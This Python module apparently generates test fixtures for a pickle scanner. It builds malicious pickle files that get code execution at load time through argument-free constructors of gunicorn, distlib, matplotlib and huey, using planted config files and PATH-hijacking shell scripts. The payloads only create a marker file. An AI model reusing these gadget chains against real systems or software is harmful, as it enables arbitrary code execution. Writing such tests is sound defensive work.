"""Constructors of unknown classes that need no arguments: they run what the folder, the path or the settings say."""
from makefixtures.asm import asm

from ..instances import called, items, named, value, whole
from ..registry import SHELL, Attack, kind

SCRIPT = f'#!/bin/sh\n{SHELL}\n'.encode()
TOUCH = b"open(__import__('os').environ['MODELGATE_MARKER'], 'w').close()\n"


def calls(module, name):
    """The opcodes that call a class without arguments, and a tuple that holds the same. OBJ and INST would call `__new__` alone."""
    cls = named(module, name)
    yield 'reduce', cls + asm('EMPTY_TUPLE', 'REDUCE')
    yield 'within', items(value([0.5, 1.5]), cls + asm('EMPTY_TUPLE', 'REDUCE'))


@kind('a server that is built without arguments runs the configuration beside it')
def server():
    loader = 'import pickle, sys\nsys.argv = ["x", "m:a"]\npickle.load(open(path, "rb"))'
    for _, code in calls('gunicorn.app.wsgiapp', 'WSGIApplication'):
        yield Attack('m.pkl', {'m.pkl': whole(code), 'gunicorn.conf.py': TOUCH}, loader=loader)


@kind('a class that is built without arguments starts a program of the path')
def programs():
    for module, name, program in (('distlib.index', 'PackageIndex', 'gpg'), ('matplotlib.backends.backend_pgf', 'LatexManager', 'xelatex')):
        loader = (f'import os, pickle\nos.chmod({program!r}, 0o755)\nos.environ["PATH"] = os.getcwd() + ":" + os.environ["PATH"]\n'
                  'pickle.load(open(path, "rb"))')
        for _, code in calls(module, name):
            yield Attack('m.pkl', {'m.pkl': whole(code), program: SCRIPT}, loader=loader)


@kind('a queue that is built without arguments makes a database in the folder')
def queue():
    loader = 'import os, pickle\npickle.load(open(path, "rb"))\nif os.path.exists("huey.db"): open(os.environ["MODELGATE_MARKER"], "w").close()'
    for _, code in calls('huey.api', 'SqliteHuey'):
        yield Attack('m.pkl', whole(code), loader=loader)


@kind('a base of an instance is an unknown class, whose constructor is called')
def bases():
    program = 'gpg'
    loader = (f'import os, pickle\nos.chmod({program!r}, 0o755)\nos.environ["PATH"] = os.getcwd() + ":" + os.environ["PATH"]\n'
              'pickle.load(open(path, "rb"))')
    cls = named('distlib.index', 'PackageIndex')
    for last in (value(None), value(0)):
        yield Attack('m.pkl', {'m.pkl': whole(called('copyreg', '_reconstructor', cls, cls, last)), program: SCRIPT}, loader=loader)
        yield Attack('m.pkl', {'m.pkl': whole(items(value(1), called('copyreg', '_reconstructor', cls, cls, last))), program: SCRIPT}, loader=loader)
